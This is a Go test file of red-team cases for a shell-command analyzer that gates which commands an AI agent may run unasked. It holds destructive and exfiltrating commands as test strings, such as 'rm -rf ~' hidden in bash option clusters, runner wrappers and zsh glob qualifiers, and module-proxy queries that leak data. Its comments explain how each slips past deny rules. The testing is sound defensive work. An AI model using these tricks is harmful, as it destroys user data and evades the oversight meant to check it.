package shellcmd

// Red-team tests, round 9. TestRedteam2_* that FAIL show a real bypass;
// TestRedteam2Held_* are attacks that held. Nothing here runs a command.

import (
	"strings"
	"testing"
)

// hidden reports whether the analysis lets the script through without
// seeing the given command: no part has it as argv[0] and nothing is
// opaque.
func hidden(a Analysis, cmd string) bool {
	if len(a.Opaque) > 0 {
		return false
	}
	for _, p := range a.Parts {
		if len(p.Argv) > 0 && p.Argv[0] == cmd {
			return false
		}
		if p.Opaque != "" {
			return false
		}
	}
	return true
}

// bash and dash take the value of -o / -O from the next word even inside
// a cluster (-co NAME, -Oc NAME, -eo NAME … -c), so the script is the word
// after it. shellWrapper takes NAME as the script: `bash -co pipefail 'rm
// -rf ~'` is judged as the command `pipefail`, and the rm that really runs
// is seen by no deny rule and not by the destructive list. With no -c in
// the cluster before the -o (`-eo pipefail -c`), the whole bash is the
// command, again with nothing opaque.
func TestRedteam2_ShellOptionClusterHidesScript(t *testing.T) {
	for _, s := range []string{
		"bash -co pipefail 'rm -rf ~'",
		"bash -Oc extglob 'rm -rf ~'",
		"bash -cO extglob 'rm -rf ~'",
		"sh -ceo errexit 'rm -rf ~'",
		"bash -eo pipefail -c 'rm -rf ~'",
		"bash -euo pipefail -c 'rm -rf ~'",
	} {
		a := Analyze(s)
		if hidden(a, "rm") {
			t.Errorf("%q: rm is hidden, nothing opaque; parts %q", s, argvs(a))
		}
	}
}

// bash -i (also in a cluster, -ic) sources the --rcfile / --init-file
// given, a file of the model's or the repository's choosing, before the
// -c script: the part `ls` is SafePart although bash runs ./evil first.
func TestRedteam2_InteractiveShellRcfileRunsCode(t *testing.T) {
	for _, s := range []string{
		"bash --rcfile ./evil -ic ls",
		"bash --init-file ./evil -i -c 'ls'",
	} {
		a := Analyze(s)
		for _, p := range a.Parts {
			if ok, _ := SafePart(p); ok && len(a.Opaque) == 0 {
				t.Errorf("%q: part %q is known safe, though bash sources ./evil first", s, p.Argv)
			}
		}
	}
}

// zsh -c scripts are parsed as bash. In zsh a glob qualifier runs code:
// *(e:'CMD':) evaluates CMD for every file matched, *(+fn) calls fn. The
// bash parser sees a harmless extglob word, so `ls` or `echo` of it is
// SafePart (ls and echo may take globs) and the rm that runs is seen by no
// rule and by no destructive check. zsh is the default shell on macOS.
func TestRedteam2_ZshGlobQualifierRunsCode(t *testing.T) {
	for _, s := range []string{
		`zsh -c "ls *(e:'rm -rf ~':)"`,
		`zsh -c "echo *(e:'rm -rf ~':)"`,
	} {
		a := Analyze(s)
		if hidden(a, "rm") {
			t.Errorf("%q: rm is hidden, nothing opaque; parts %q", s, argvs(a))
		}
		for _, p := range a.Parts {
			if ok, _ := SafePart(p); ok {
				t.Errorf("%q: part %q is known safe, though zsh runs the qualifier's code", s, p.Argv)
			}
		}
	}
}

// go list in module mode reaches the network: -m -versions and @latest
// query the module proxy (which fetches from any host named in the module
// path: an exfiltration channel), and loading packages downloads missing
// modules into the module cache (a write). Under untrusted it runs
// unasked.
func TestRedteam2_GoListReachesNetwork(t *testing.T) {
	for _, s := range []string{
		"go list -m -versions example.com/leaked-secret",
		"go list -m -json example.com/leaked-secret@latest",
		"go list -m -u all",
	} {
		for _, p := range Analyze(s).Parts {
			if ok, _ := SafePart(p); ok {
				t.Errorf("%q is known safe, though it queries the module proxy", s)
			}
		}
	}
}

// Wrappers Analyze does not look through (taskset, chrt, flock, setpriv,
// unshare…) still hide a destructive command from the destructive list
// and from deny rules, with nothing opaque: under on-request the script
// runs unasked. (Reported as a note in round 8; still open.)
func TestRedteam2_UnknownRunnerHidesDestructive(t *testing.T) {
	for _, s := range []string{
		"taskset 1 rm -rf ~",
		"chrt -o 0 rm -rf ~",
		"flock /tmp/l rm -rf ~",
		"setpriv --reuid=0 rm -rf ~",
	} {
		a := Analyze(s)
		if !hidden(a, "rm") {
			continue
		}
		dangerous := false
		for _, p := range a.Parts {
			if d, _ := Dangerous(p.Argv); d {
				dangerous = true
			}
		}
		if !dangerous {
			t.Errorf("%q: rm -rf is neither a part, dangerous nor opaque; parts %q", s, argvs(a))
		}
	}
}

// Held: shell option handling that is right.
func TestRedteam2Held_ShellOptions(t *testing.T) {
	for _, s := range []string{
		"bash -c -o pipefail 'rm -rf ~'", // -o separate: script found
		"bash -xc 'rm -rf ~'",
		"bash -O extglob -c 'rm -rf ~'",
		"bash -o vi -c 'rm -rf ~'",
	} {
		if a := Analyze(s); hidden(a, "rm") {
			t.Errorf("%q: rm hidden; parts %q", s, argvs(a))
		}
	}
	// After the script, words are $0 and arguments, not options.
	a := Analyze("bash -c ls 'rm -rf ~'")
	if len(a.Parts) != 1 || strings.Join(a.Parts[0].Argv, " ") != "ls" {
		t.Errorf("bash -c ls NAME: parts %q", argvs(a))
	}
	// zsh/ksh-only syntax that the bash parser refuses is opaque.
	for _, s := range []string{"zsh -c 'echo =(touch pwn)'", "ksh -c 'echo ~(e:x)'"} {
		if a := Analyze(s); len(a.Opaque) == 0 {
			t.Errorf("%q not opaque", s)
		}
	}
}

func argvs(a Analysis) [][]string {
	var out [][]string
	for _, p := range a.Parts {
		out = append(out, p.Argv)
	}
	return out
}
